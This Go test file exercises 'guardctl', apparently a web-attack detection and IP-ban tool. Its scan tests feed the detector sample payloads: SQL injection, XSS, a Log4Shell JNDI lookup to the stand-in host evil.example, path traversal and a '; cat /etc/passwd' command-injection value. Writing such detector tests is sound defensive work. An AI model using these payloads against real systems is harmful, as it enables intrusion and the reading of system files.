package main

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/guardgo/guard/core/detect/corpus"
)

// exec runs guardctl with args and returns its exit code and output.
func exec(t *testing.T, stdin string, args ...string) (int, string, string) {
	t.Helper()
	var out, errOut bytes.Buffer
	a := &app{stdin: strings.NewReader(stdin), stdout: &out, stderr: &errOut,
		getenv: func(string) string { return "" }}
	code := a.run(context.Background(), args)
	return code, out.String(), errOut.String()
}

func writeFile(t *testing.T, name, content string) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), name)
	if err := os.WriteFile(p, []byte(content), 0o600); err != nil {
		t.Fatal(err)
	}
	return p
}

func TestRunEntryPoint(t *testing.T) {
	var out, errOut bytes.Buffer
	if code := run([]string{"help"}, &out, &errOut); code != exitOK || !strings.Contains(out.String(), "usage: guardctl") {
		t.Fatalf("help: code %d, out %q", code, out.String())
	}
}

func TestUsageErrors(t *testing.T) {
	tests := []struct {
		name string
		args []string
		want int
		msg  string // expected in stderr
	}{
		{"no command", nil, exitUsage, "usage: guardctl"},
		{"unknown command", []string{"frobnicate"}, exitUsage, `unknown command "frobnicate"`},
		{"validate without file", []string{"validate"}, exitUsage, "usage: guardctl validate"},
		{"validate missing file", []string{"validate", "-config", "/nonexistent/guard.yaml"}, exitUsage, "no such file"},
		{"validate -h", []string{"validate", "-h"}, exitOK, "-config"},
		{"scan nothing", []string{"scan"}, exitUsage, "give payloads"},
		{"scan two sources", []string{"scan", "-file", "x", "payload"}, exitUsage, "give payloads"},
		{"scan bad where", []string{"scan", "-where", "elsewhere", "x"}, exitUsage, `unknown -where "elsewhere"`},
		{"scan missing file", []string{"scan", "-file", "/nonexistent/payloads"}, exitUsage, "no such file"},
		{"scan unknown flag", []string{"scan", "-bogus", "x"}, exitUsage, "flag provided but not defined"},
		{"bans nothing", []string{"bans"}, exitUsage, "usage: guardctl bans"},
		{"bans unknown", []string{"bans", "purge"}, exitUsage, "usage: guardctl bans"},
		{"bans add no ip", []string{"bans", "add"}, exitUsage, "exactly one IP"},
		{"bans add bad ip", []string{"bans", "add", "300.1.1.1"}, exitUsage, "not an IP address"},
		{"bans add zero duration", []string{"bans", "add", "192.0.2.1", "-duration", "0s"}, exitUsage, "-duration must be > 0"},
		{"bans remove two", []string{"bans", "remove", "192.0.2.1", "192.0.2.2"}, exitUsage, "exactly one IP"},
		{"patterns nothing", []string{"patterns"}, exitUsage, "usage: guardctl patterns"},
		{"patterns add no regex", []string{"patterns", "add", "-id", "x", "-category", "sqli"}, exitUsage, "are required"},
		{"patterns remove no id", []string{"patterns", "remove"}, exitUsage, "exactly one pattern id"},
		// Validated before any connection: no Redis needed for these.
		{"patterns add bad regex", []string{"patterns", "add", "-id", "x", "-category", "sqli", "-regex", "a(b"}, exitProblem, "missing closing )"},
		{"patterns add lookahead", []string{"patterns", "add", "-id", "x", "-category", "sqli", "-regex", "(?=x)"}, exitProblem, "invalid pattern"},
		{"patterns add bad weight", []string{"patterns", "add", "-id", "x", "-category", "sqli", "-regex", "abc", "-weight", "1.5"}, exitProblem, "invalid pattern"},
		{"patterns add bad context", []string{"patterns", "add", "-id", "x", "-category", "sqli", "-regex", "abc", "-contexts", "query,moon"}, exitProblem, "invalid pattern"},
		{"redis unreachable", []string{"bans", "list", "-redis", "redis://127.0.0.1:1", "-timeout", "500ms"}, exitUsage, "unavailable"},
		{"redis bad url", []string{"patterns", "list", "-redis", "http://x"}, exitUsage, "redis_url"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			code, _, stderr := exec(t, "", tc.args...)
			if code != tc.want {
				t.Fatalf("exit %d, want %d; stderr:\n%s", code, tc.want, stderr)
			}
			if !strings.Contains(stderr, tc.msg) {
				t.Fatalf("stderr lacks %q:\n%s", tc.msg, stderr)
			}
		})
	}
}

func TestParseArgsInterleaved(t *testing.T) {
	a := &app{stderr: &bytes.Buffer{}}
	tests := []struct {
		name    string
		args    []string
		wantPos string
		wantD   string
	}{
		{"flags first", []string{"-d", "x", "add", "ip"}, "add,ip", "x"},
		{"flags last", []string{"add", "ip", "-d", "x"}, "add,ip", "x"},
		{"flags between", []string{"add", "-d", "x", "ip"}, "add,ip", "x"},
		{"double dash", []string{"-d", "x", "--", "-1 OR 1=1", "-d"}, "-1 OR 1=1,-d", "x"},
		{"none", nil, "", ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			fs := a.newFlags("t", "t")
			d := fs.String("d", "", "")
			pos, err := parseArgs(fs, tc.args)
			if err != nil {
				t.Fatal(err)
			}
			if got := strings.Join(pos, ","); got != tc.wantPos || *d != tc.wantD {
				t.Fatalf("pos %q d %q; want %q, %q", got, *d, tc.wantPos, tc.wantD)
			}
		})
	}
}

func TestValidate(t *testing.T) {
	demo := filepath.Join("..", "..", "testdata", "configs", "demo.yaml")
	tests := []struct {
		name      string
		args      func(t *testing.T) []string
		want      int
		wantLines []string
	}{
		{"demo config", func(*testing.T) []string { return []string{"validate", "-config", demo} }, exitOK, []string{"ok"}},
		{"positional file", func(*testing.T) []string { return []string{"validate", demo} }, exitOK, []string{"ok"}},
		{"every problem", func(t *testing.T) []string {
			return []string{"validate", "-config", writeFile(t, "bad.yaml",
				"whitelist: [nope, 10.0.0.0/8]\nrate_limit: -1\nbogus_field: 1\nenable_cors: true\ncors_allow_origins: ['*']\ncors_allow_credentials: true\n")}
		}, exitProblem, []string{
			"invalid, 4 problem(s):",
			"bogus_field: line 3: unknown field",
			`whitelist[0]: invalid IP address "nope"`,
			"rate_limit: must be >= 1",
			"cors_allow_credentials",
		}},
		{"json", func(t *testing.T) []string {
			return []string{"validate", "-config", writeFile(t, "bad.json", `{"rate_limit_window": 0, "trusted_proxies": ["x"]}`)}
		}, exitProblem, []string{"invalid, 2 problem(s):", "rate_limit_window", "trusted_proxies[0]"}},
		{"valid json", func(t *testing.T) []string {
			return []string{"validate", "-config", writeFile(t, "ok.json", `{"rate_limit": 100, "rate_limit_window": "90s"}`)}
		}, exitOK, []string{"ok"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			code, out, stderr := exec(t, "", tc.args(t)...)
			if code != tc.want {
				t.Fatalf("exit %d, want %d\nstdout:\n%s\nstderr:\n%s", code, tc.want, out, stderr)
			}
			for _, l := range tc.wantLines {
				if !strings.Contains(out, l) {
					t.Errorf("stdout lacks %q:\n%s", l, out)
				}
			}
		})
	}
}

func TestScan(t *testing.T) {
	tests := []struct {
		name     string
		stdin    string
		args     func(t *testing.T) []string
		want     int
		contains []string
		absent   []string
	}{
		{"arguments", "", func(*testing.T) []string {
			return []string{"scan", "1' UNION SELECT password FROM users--", "hello world", "<script>alert(1)</script>"}
		}, exitOK, []string{
			`arg1 threat=yes`, `category=sqli`,
			`arg2 threat=no score=0.000 category=- pattern=- where=query:q payload="hello world"`,
			`arg3 threat=yes`, `category=xss`,
			"scanned 3: 2 threat(s), 1 clean (sqli=1 xss=1)",
		}, nil},
		{"where header", "", func(*testing.T) []string {
			return []string{"scan", "-where", "header", "${jndi:ldap://evil.example/a}"}
		}, exitOK, []string{"threat=yes", "where=header:X-Payload", "scanned 1: 1 threat(s), 0 clean"}, nil},
		{"where full location", "", func(*testing.T) []string {
			return []string{"scan", "-where", "header:User-Agent", "sqlmap/1.7"}
		}, exitOK, []string{"where=header:User-Agent"}, nil},
		{"payload after double dash", "", func(*testing.T) []string {
			return []string{"scan", "--", "-1 OR 1=1--"}
		}, exitOK, []string{`payload="-1 OR 1=1--"`, "scanned 1:"}, nil},
		{"file", "", func(t *testing.T) []string {
			return []string{"scan", "-where", "path", "-file", writeFile(t, "p.txt", "../../../../etc/passwd\r\n/products/42\n")}
		}, exitOK, []string{"p.txt:1 threat=yes", "category=path_traversal", "p.txt:2 threat=no", "where=path", "scanned 2: 1 threat(s), 1 clean"}, nil},
		{"stdin", "<img src=x onerror=alert(1)>\nplain text\n", func(*testing.T) []string {
			return []string{"scan", "-file", "-"}
		}, exitOK, []string{"-:1 threat=yes", "-:2 threat=no", "scanned 2: 1 threat(s)"}, nil},
		{"jsonl", "", func(t *testing.T) []string {
			return []string{"scan", "-jsonl", writeFile(t, "c.jsonl", strings.Join([]string{
				`{"id":"a","payload":"%27%20OR%201%3D1--","location":"query","encoded":true,"param":"id"}`,
				`{"payload":"caf%C3%A9+au+lait","location":"body","encoded":true}`,
				``,
				`{"payload":"Mozilla/5.0 (X11; Linux x86_64)","location":"header","header":"User-Agent"}`,
				`{"payload":"; cat /etc/passwd","location":"cookie"}`,
			}, "\n"))}
		}, exitOK, []string{
			"c.jsonl:1 threat=yes", "where=query:id", `payload="' OR 1=1--"`,
			"c.jsonl:2 threat=no", "where=body:text", `payload="café au lait"`,
			"c.jsonl:4 threat=no", "where=header:User-Agent",
			"c.jsonl:5 threat=yes", "where=cookie:c",
			"scanned 4: 2 threat(s), 2 clean",
		}, nil},
		{"jsonl malformed lines", "", func(t *testing.T) []string {
			return []string{"scan", "-jsonl", writeFile(t, "m.jsonl", "{\"payload\":\"ok\"}\nnot json\n{\"other\":1}\n{\"payload\":\"x\",\"location\":\"moon\"}\n")}
		}, exitProblem, []string{"scanned 1: 0 threat(s), 1 clean, 3 malformed line(s) skipped"}, nil},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			code, out, stderr := exec(t, tc.stdin, tc.args(t)...)
			if code != tc.want {
				t.Fatalf("exit %d, want %d\nstdout:\n%s\nstderr:\n%s", code, tc.want, out, stderr)
			}
			for _, s := range tc.contains {
				if !strings.Contains(out, s) {
					t.Errorf("stdout lacks %q:\n%s", s, out)
				}
			}
		})
	}
}

func TestScanJSON(t *testing.T) {
	code, out, stderr := exec(t, "", "scan", "-json", "-where", "body", "{{7*7}}", "<b>fine</b> & dandy")
	if code != exitOK {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if len(lines) != 2 {
		t.Fatalf("%d lines:\n%s", len(lines), out)
	}
	var v [2]verdict
	for i, l := range lines {
		if err := json.Unmarshal([]byte(l), &v[i]); err != nil {
			t.Fatalf("line %d: %v", i, err)
		}
	}
	if !v[0].Threat || v[0].Category != "ssti" || v[0].Pattern == "" || v[0].Where != "body:text" || v[0].Score <= 0 {
		t.Errorf("verdict 1: %+v", v[0])
	}
	if !strings.Contains(lines[1], `"<b>fine</b> & dandy"`) {
		t.Errorf("payload not shown as it is: %s", lines[1])
	}
	if v[1].Threat || v[1].Payload != "<b>fine</b> & dandy" {
		t.Errorf("verdict 2: %+v", v[1])
	}
	if !strings.Contains(stderr, "scanned 2: 1 threat(s), 1 clean") {
		t.Errorf("summary not on stderr: %q", stderr)
	}
}

func TestScanConfigThreshold(t *testing.T) {
	// A threshold of 1 leaves only the strongest evidence a threat.
	strict := writeFile(t, "strict.yaml", "detection_semantic_threshold: 1\n")
	payload := "select name from"
	_, def, _ := exec(t, "", "scan", payload)
	_, str, _ := exec(t, "", "scan", "-config", strict, payload)
	if strings.Contains(str, "threat=yes") && !strings.Contains(def, "threat=yes") {
		t.Fatalf("a stricter threshold found more:\ndefault: %s\nstrict: %s", def, str)
	}
	code, _, stderr := exec(t, "", "scan", "-config", writeFile(t, "bad.yaml", "rate_limit: -1\n"), "x")
	if code != exitUsage || !strings.Contains(stderr, "rate_limit") {
		t.Fatalf("bad config: exit %d, %s", code, stderr)
	}
}

func TestFormDecode(t *testing.T) {
	tests := map[string]string{
		"a+b%20c":   "a b c",
		"%27%3d%3D": "'==",
		"100%":      "100%",
		"%zz%4":     "%zz%4",
		"%u0027":    "%u0027",
		"":          "",
	}
	for in, want := range tests {
		if got := corpus.FormDecode(in); got != want {
			t.Errorf("corpus.FormDecode(%q) = %q, want %q", in, got, want)
		}
	}
}
